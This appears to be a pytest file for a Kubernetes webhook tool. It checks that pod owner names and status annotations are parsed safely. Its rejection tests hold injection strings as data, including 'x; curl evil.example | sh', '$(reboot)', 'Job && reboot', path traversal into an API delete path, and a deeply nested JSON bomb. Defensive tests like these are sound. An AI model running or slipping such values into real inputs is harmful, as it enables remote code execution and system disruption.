"""Who made a pod: words of whoever created it, which become paths of the API and commands for administrators."""

import pytest

from webhook.cli.live import KINDS, Owner, owner_of, status

DEEP = '{"verdicts":' * 1015 + "1" + "}" * 1015
"""Printing it would need more of the stack than there is."""


def made_by(**changes: object) -> dict[str, object]:
    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-1.a", "uid": "1", "controller": True, **changes}
    return {"ownerReferences": [owner]}


def test_the_controller_among_a_pods_owners_made_it() -> None:
    assert owner_of(made_by()) == Owner("apps/v1", "ReplicaSet", "web-1.a")
    assert owner_of(made_by(controller=False)) is None
    assert owner_of({}) is None


@pytest.mark.parametrize(
    "changes",
    [
        {"name": "x; curl evil.example | sh"},
        {"name": "$(reboot)"},
        {"name": "../../../../api/v1/namespaces/shop/services/web/proxy/delete"},
        {"name": ".."},
        {"name": "web?watch=true"},
        {"name": "--all"},
        {"kind": "Job && reboot"},
    ],
)
def test_r55_an_owner_named_as_no_object_can_be_is_none(changes: dict[str, object]) -> None:
    """The API server takes any words for it."""
    assert owner_of(made_by(**changes)) is None


@pytest.mark.parametrize("written", ["", "[]", "{}", '{"verdicts": []}', DEEP, f'{{"verdicts": {{}}, "version": {DEEP}}}'])
def test_r55_what_only_looks_like_a_mark_is_none(written: str) -> None:
    assert status({"annotations": {"richpod.io/status": written}}) is None


def test_a_mark_is_words() -> None:
    assert status({"annotations": {"richpod.io/status": '{"verdicts": {"init": "applied"}}'}}) == {
        "verdicts": {"init": "applied"}
    }


def test_kinds_are_understood_as_kubectl_takes_and_prints_them() -> None:
    """`kubectl get -o name` writes the group behind the kind, where there is one."""
    for word in ("deployment", "deployments", "deploy", "deployment.apps", "deployments.apps"):
        assert KINDS[word] == "Deployment"
    assert KINDS["cronjob.batch"] == "CronJob"
    assert KINDS["pod"] == "Pod"
    assert not {"deployment.example.com", "deployment.batch", "pod."} & KINDS.keys()
